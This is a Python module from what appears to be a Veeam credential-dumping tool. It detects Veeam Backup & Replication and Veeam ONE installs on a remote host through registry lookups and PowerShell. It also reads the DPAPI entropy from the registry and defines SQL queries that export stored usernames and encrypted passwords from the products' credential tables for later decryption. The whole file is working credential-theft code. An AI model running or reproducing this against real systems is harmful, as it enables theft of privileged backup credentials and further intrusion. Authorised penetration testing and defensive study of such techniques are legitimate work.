"""
veeamcred.targets
=================

Detection of the Veeam products installed on the target host, their builds, and the scheme that
protects their stored secrets.
"""


import enum
import logging


from .abc.registry import RegistryReader
from .abc.remote import RemoteExecutor
from .exceptions import NoTargetError, verify_type
from .security.decryption import Strategy
from .security.dpapi import TextEncoding
from .strings import is_base64, strip_nulls
from .versions import parse_version


__author__ = 'Aaron Hosford'
__all__ = [
    'Product',
    'Target',
    'get_install_path',
    'detect_version',
    'detect_entropy',
    'classify',
    'EXPORT_HEADERS',
]


log = logging.getLogger(__name__)


EXPORT_HEADERS = ('ID', 'USN', 'Username', 'Password', 'Description', 'Visible')

VERSION_SCRIPT = "(Get-Item -Path '%s').VersionInfo.ProductVersion"
ENTROPY_SCRIPT = (
    "[Convert]::ToBase64String((Get-ItemPropertyValue -Path 'HKLM:\\SOFTWARE\\Veeam\\Veeam ONE\\Private\\' "
    "-Name Entropy))"
)

VBR_REGISTRY_KEY = 'HKLM\\SOFTWARE\\Veeam\\Veeam Backup and Replication'
VOM_REGISTRY_KEY = 'HKLM\\SOFTWARE\\Veeam\\Veeam ONE Monitor\\Service'

VOM_CLIENT_PACKAGE = '\\ClientPackages\\VeeamONE.Monitor.Client.x64.msi'

VBR_EXPORT_QUERY = (
    'SET NOCOUNT ON;SELECT [id] ID,[usn] USN,[user_name] Username,[password] Password,'
    '[description] Description,[visible] Visible FROM dbo.Credentials'
)
VOM_EXPORT_QUERY = (
    "SET NOCOUNT ON;SELECT [uid] ID, [id] USN, [name] Username, [password] Password,"
    "'VeeamONE Credential' Description,0 Visible FROM [collector].[user] "
    "WHERE [collector].[user].[name] IS NOT NULL AND [collector].[user].[name] NOT LIKE ''"
)


class Product(enum.Enum):
    """The Veeam products whose credential stores can be dumped."""

    BACKUP_REPLICATION = 'vbr'
    ONE_MONITOR = 'vom'

    @property
    def display_name(self):
        if self is Product.BACKUP_REPLICATION:
            return 'Veeam Backup & Replication'
        return 'Veeam ONE Monitor'

    @property
    def short_name(self):
        """The upper-case tag used in progress messages."""
        return self.value.upper()

    @property
    def registry_key(self):
        """The registry key whose presence indicates the product is installed."""
        if self is Product.BACKUP_REPLICATION:
            return VBR_REGISTRY_KEY
        return VOM_REGISTRY_KEY

    @property
    def path_value(self):
        """The registry value under registry_key that locates the install directory."""
        if self is Product.BACKUP_REPLICATION:
            return 'CorePath'
        return 'MonitorX64ClientDistributivePath'

    @property
    def probe_file(self):
        """The file, relative to the install directory, whose version is the product's build."""
        if self is Product.BACKUP_REPLICATION:
            return 'Packages\\VeeamDeploymentDll.dll'
        return 'VeeamDCS.exe'

    @property
    def export_query(self):
        """The SQL statement that exports the product's credential store."""
        if self is Product.BACKUP_REPLICATION:
            return VBR_EXPORT_QUERY
        return VOM_EXPORT_QUERY

    @property
    def result_headers(self):
        """The columns of the decrypted result table."""
        if self is Product.BACKUP_REPLICATION:
            return ('ID', 'USN', 'Username', 'Plaintext', 'Description', 'Visible')
        return ('ID', 'USN', 'Username', 'Plaintext', 'Description', 'Method', 'Visible')

    @property
    def secret_encoding(self):
        """How the product encodes its secrets' plaintext before protecting them."""
        if self is Product.BACKUP_REPLICATION:
            return TextEncoding.ASCII
        return TextEncoding.UNICODE

    @property
    def encrypted_artifact(self):
        return 'veeam_%s_enc' % self.value

    @property
    def decrypted_artifact(self):
        return 'veeam_%s_dec' % self.value


class Target:
    """
    A detected product installation. Immutable once constructed. For Veeam ONE, the presence of an
    entropy value marks the DPAPI era; without it, secrets use the legacy key.
    """

    def __init__(self, product, version, install_path=None, entropy=None):
        verify_type(product, Product)
        verify_type(install_path, str, allow_none=True)
        verify_type(entropy, str, allow_none=True)
        if not version:
            raise ValueError("A target requires a positive version.")

        self._product = product
        self._version = version
        self._install_path = install_path
        self._entropy = entropy or None

    @property
    def product(self):
        return self._product

    @property
    def version(self):
        return self._version

    @property
    def install_path(self):
        return self._install_path

    @property
    def entropy(self):
        """The base64 DPAPI entropy used for the product's secrets, or None."""
        if self._product is Product.ONE_MONITOR:
            return self._entropy
        return None

    @property
    def strategy(self):
        """The decryption strategy for every secret of this target."""
        if self._product is Product.ONE_MONITOR and not self._entropy:
            return Strategy.LEGACY_KEY
        return Strategy.HOST_PROTECTION

    def __eq__(self, other):
        if not isinstance(other, Target):
            return NotImplemented
        return (self._product, self._version, self._install_path, self._entropy) == \
               (other._product, other._version, other._install_path, other._entropy)

    def __hash__(self):
        return hash((self._product, self._version))

    def __str__(self):
        return '%s Build %s' % (self._product.display_name, self._version)

    def __repr__(self):
        return '%s(%r, %r, %r, %r)' % (type(self).__name__, self._product, self._version,
                                       self._install_path, self._entropy)


def get_install_path(registry, product):
    """
    Locate a product's install directory through the registry.

    :param registry: A veeamcred.abc.registry.RegistryReader.
    :param product: The product.
    :return: The install directory without a trailing backslash, or None if not installed.
    """
    verify_type(registry, RegistryReader)
    verify_type(product, Product)

    if not registry.key_exists(product.registry_key):
        log.debug("Registry key %s does not exist, %s does not appear to be installed.",
                  product.registry_key, product.display_name)
        return None

    path = strip_nulls(registry.get_value(product.registry_key, product.path_value) or '')
    if product is Product.ONE_MONITOR:
        path = path.split(VOM_CLIENT_PACKAGE)[0]
    path = path.strip().rstrip('\\')
    if not path:
        log.error("Could not find %s registry entry under %s", product.path_value, product.registry_key)
        return None

    log.info("%s Install Path: %s", product.display_name, path)
    return path


def detect_version(executor, registry, product):
    """
    Determine the installed build of a product. A product that isn't installed, a missing probe
    file, and a version that doesn't parse to a positive value are all reported as None.

    :param executor: A veeamcred.abc.remote.RemoteExecutor.
    :param registry: A veeamcred.abc.registry.RegistryReader.
    :param product: The product.
    :return: A veeamcred.versions.Version, or None.
    """
    verify_type(executor, RemoteExecutor)

    path = get_install_path(registry, product)
    if path is None:
        return None
    return _probe_version(executor, product, path)


def _probe_version(executor, product, path):
    probe = '%s\\%s' % (path, product.probe_file)
    if not executor.file_exists(probe):
        log.error("Could not read %s binary %s", product.display_name, probe)
        return None

    version = parse_version(executor.execute_powershell(VERSION_SCRIPT % probe.replace("'", "''")))
    if version is None:
        log.error("Error determining %s version", product.display_name)
        return None

    log.info("%s Build %s", product.display_name, version)
    return version


def detect_entropy(executor):
    """
    Read the DPAPI entropy that Veeam ONE builds from 11.0.1 onward store in the registry.

    :param executor: A veeamcred.abc.remote.RemoteExecutor.
    :return: The entropy as base64 text, or None if absent.
    """
    verify_type(executor, RemoteExecutor)
    entropy = ''.join(strip_nulls(executor.execute_powershell(ENTROPY_SCRIPT)).split())
    if entropy and is_base64(entropy):
        log.debug("Veeam ONE entropy: %s", entropy)
        return entropy
    return None


def classify(executor, registry):
    """
    Detect every supported product on the target host.

    :param executor: A veeamcred.abc.remote.RemoteExecutor.
    :param registry: A veeamcred.abc.registry.RegistryReader.
    :return: A list of Target instances, in Product order.
    """
    targets = []
    for product in Product:
        path = get_install_path(registry, product)
        if path is None:
            continue
        version = _probe_version(executor, product, path)
        if version is None:
            continue
        entropy = detect_entropy(executor) if product is Product.ONE_MONITOR else None
        target = Target(product, version, path, entropy)
        log.info("Detected %s, secrets protected with %s", target, target.strategy.disposition)
        targets.append(target)

    if not targets:
        raise NoTargetError("No Veeam products detected")
    return targets
